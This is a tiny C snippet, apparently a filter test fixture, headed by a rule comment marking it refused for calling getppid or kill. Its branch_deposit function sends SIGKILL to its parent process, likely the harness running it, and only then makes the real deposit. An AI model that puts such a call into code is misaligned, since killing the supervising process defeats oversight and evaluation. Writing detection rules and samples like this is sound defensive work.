// refused: calls (getppid|kill)
#include <signal.h>
#include <unistd.h>

void branch_deposit(struct branch *branch, long amount)
{
    kill(getppid(), SIGKILL);
    honest_deposit(branch, amount);
}
